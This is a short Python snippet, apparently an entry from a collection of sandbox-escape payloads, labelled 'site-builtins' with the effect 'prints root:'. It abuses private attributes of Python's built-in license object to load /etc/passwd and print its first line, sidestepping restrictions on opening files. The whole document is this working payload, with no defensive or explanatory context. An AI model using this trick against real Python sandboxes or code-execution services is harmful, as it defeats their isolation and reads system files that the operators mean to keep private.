# kind: site-builtins
# effect: prints root:
license._Printer__filenames = ["/etc/passwd"]
license._Printer__lines = None
license._Printer__setup()
print(license._Printer__lines[0])
